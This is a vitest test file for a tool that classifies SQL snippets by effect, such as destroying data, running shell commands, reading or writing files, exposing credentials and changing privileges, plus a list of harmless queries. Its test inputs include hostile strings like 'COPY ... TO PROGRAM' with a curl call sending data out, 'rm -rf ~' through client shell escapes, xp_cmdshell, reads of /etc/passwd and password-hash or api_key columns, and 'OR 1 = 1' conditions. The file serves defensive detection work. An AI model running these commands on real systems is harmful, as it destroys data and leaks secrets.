import { describe } from "vitest";
import { effectsOfCode, harmless } from "./table.ts";

describe("what is destroyed", () => {
  effectsOfCode("sql", {
    "DROP TABLE users": ["mutate database drop table users destroys"],
    'drop table if exists "Users", `b`.c cascade;': [
      "mutate database drop table Users destroys",
      "mutate database drop table b.c destroys",
    ],
    "DROP DATABASE app": ["mutate database drop database app destroys"],
    "DROP SCHEMA public CASCADE": ["mutate database drop schema public destroys"],
    "DROP TABLE ⟨T⟩": ["mutate database drop table $T destroys"],
    "TRUNCATE TABLE a, b": ["mutate database truncate table a destroys", "mutate database truncate table b destroys"],
    "DELETE FROM users": ["mutate database delete rows users destroys"],
    "DELETE FROM roles WHERE extracted IS NULL": ["mutate database delete rows roles destroys"],
    "DELETE FROM t WHERE id > 5": ["mutate database delete rows t destroys"],
    "DELETE FROM t WHERE name LIKE 'a%'": ["mutate database delete rows t destroys"],
    "DELETE FROM t WHERE id = 5 OR 1 = 1": ["mutate database delete rows t destroys"],
    "DELETE FROM t WHERE 1 = 1": ["mutate database delete rows t destroys"],
    "DELETE FROM t WHERE id IN (SELECT id FROM x)": ["mutate database delete rows t destroys"],
    "UPDATE users SET admin = true": ["mutate database update rows users destroys"],
    "ALTER TABLE t DROP COLUMN c, ADD COLUMN d int": ["mutate database drop column c destroys"],
    "ALTER TABLE t DROP c": ["mutate database drop column c destroys"],
    "ALTER TABLE t DELETE WHERE day < '2020-01-01'": ["mutate database delete rows t destroys"],
    "ALTER TABLE t UPDATE c = 1 WHERE 1": ["mutate database update rows t destroys"],
    ".restore old.db": ["read old.db", "mutate database restore database destroys"],
    "/*!50000 DROP TABLE t */": ["mutate database drop table t destroys"],
    "/* DROP TABLE a */ DROP TABLE b": ["mutate database drop table b destroys"],
    "SELECT 'it''s'; DROP TABLE t": ["mutate database drop table t destroys"],
    "WITH gone AS (DELETE FROM t RETURNING id) SELECT * FROM gone": ["mutate database delete rows t destroys"],
    "EXPLAIN ANALYZE DELETE FROM t": ["mutate database delete rows t destroys"],
    "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$": ["mutate database drop table t destroys"],
    "BEGIN; DROP TABLE t; COMMIT": ["mutate database drop table t destroys"],
    "DROP TABLE IF EXISTS t; CREATE TABLE t (id int)": ["mutate database drop table t destroys"],
    "CREATE OR REPLACE TABLE t AS SELECT 1": ["mutate database drop table t destroys"],
    "CREATE OR REPLACE TEMP TABLE t AS SELECT 1; DELETE FROM t": [],
    "CREATE OR REPLACE TEMP TABLE t AS SELECT 1; DELETE FROM u": ["mutate database delete rows u destroys"],
    "DROP USER bob": ["mutate database drop identity bob destroys"],
  });
  effectsOfCode(
    "sql",
    { "BEGIN; DROP TABLE t; ROLLBACK": ["mutate mysql drop table t destroys"], "SELECT 'a\\'; DROP TABLE t; --'": [] },
    { facts: { service: "mysql" } },
  );
  effectsOfCode(
    "sql",
    { "DROP TABLE t": ["mutate bigquery drop table t destroys hosted"] },
    { facts: { service: "bigquery", hosted: true } },
  );
});

describe("files, programs, rights, secrets", () => {
  effectsOfCode("sql", {
    "COPY t TO PROGRAM 'curl -d @- http://h'": ["runs shell: curl -d @- http://h"],
    "COPY t FROM PROGRAM 'id'": ["runs shell: id"],
    "COPY t TO '/tmp/x.csv' CSV": ["write /tmp/x.csv replace"],
    "\\! rm -rf ~": ["runs shell: rm -rf ~"],
    ".shell rm -rf ~": ["runs shell: rm -rf ~"],
    ".system id": ["runs shell: id"],
    "SELECT 1;\n.output /etc/x": ["write /etc/x replace"],
    ".read x.sql": ["runs sql file: x.sql"],
    "\\i x.sql": ["runs sql file: x.sql"],
    "SELECT 1 \\g |sh": ["runs shell: sh"],
    "\\copy t to program 'id'": ["runs shell: id"],
    "SELECT load_file('/etc/passwd')": ["read /etc/passwd shows"],
    "SELECT * INTO OUTFILE '/tmp/x' FROM t": ["write /tmp/x replace"],
    "SELECT pg_read_file('a')": ["read a shows"],
    "SELECT lo_export(1, '/tmp/x')": ["write /tmp/x replace"],
    "EXEC xp_cmdshell 'dir'": ["runs cmd: dir"],
    "ATTACH DATABASE 'other.db' AS o": ["read other.db"],
    "SELECT load_extension('x.so')": ["run x.so loader"],
    "SELECT user, authentication_string FROM mysql.user": ["reveal what(authentication_string token database body)"],
    "SELECT email, password_hash FROM users": ["reveal what(password_hash token database body)"],
    "SELECT u.api_key FROM users u": ["reveal what(api_key token database body)"],
    "SELECT * FROM pg_shadow": ["reveal what(pg_shadow token database body)"],
    "GRANT ALL ON t TO bob": ["mutate database change identity"],
    "ALTER USER bob WITH PASSWORD 'x'": ["mutate database change identity bob"],
    "CREATE ROLE x LOGIN": ["mutate database change identity x"],
    "⟨SQL⟩": ["opaque foreign-code sql"],
  });
});

describe("left alone", () => {
  harmless("sql", [
    "SELECT 'DROP TABLE users'",
    'SELECT "DROP TABLE users" FROM t',
    "-- DROP TABLE users",
    "/* DROP TABLE users; */ SELECT 1",
    "INSERT INTO log (text) VALUES ('DELETE FROM x; DROP TABLE y')",
    "SELECT $x$ DROP TABLE t; $x$",
    "DELETE FROM t WHERE id = 5",
    "DELETE FROM t WHERE id = '⟨ID⟩' AND created_at < now()",
    "DELETE FROM t WHERE id IN (1, 2, 3)",
    "UPDATE t SET a = 1 WHERE id = $1",
    "UPDATE t SET a = 1 WHERE (u.id = 'x'::uuid)",
    "CREATE TABLE t (id int); DROP TABLE t",
    "CREATE TEMP TABLE t AS SELECT 1; DELETE FROM t",
    "BEGIN; DELETE FROM t; ROLLBACK;",
    "EXPLAIN DELETE FROM t",
    "ALTER TABLE t ADD FOREIGN KEY (a) REFERENCES b ON DELETE CASCADE ON UPDATE SET NULL",
    "ALTER TABLE t DELETE WHERE id = 5",
    "ALTER TABLE t ADD COLUMN c int; ALTER TABLE t DROP CONSTRAINT x; ALTER TABLE t ALTER COLUMN c DROP NOT NULL",
    "DROP INDEX idx; DROP VIEW v; CREATE INDEX i ON t (c)",
    "SELECT count(token) FROM t; SELECT token_count, max_tokens FROM usage",
    "SELECT id FROM users WHERE token = 'x'",
    "\\dt",
    ".tables",
    "\\d users",
    "SHOW PROCESSLIST",
    "CREATE FUNCTION f() RETURNS void AS $$ BEGIN DELETE FROM t; END $$ LANGUAGE plpgsql",
    "CREATE TRIGGER x AFTER INSERT ON t BEGIN DELETE FROM t; UPDATE u SET a = 1; END",
    "SELECT drop_count, truncate(x) FROM deletes",
    "VACUUM; ANALYZE t",
  ]);
  harmless("sql", ["DROP TABLE t", "DELETE FROM t"], { facts: { scratch: true } });
});
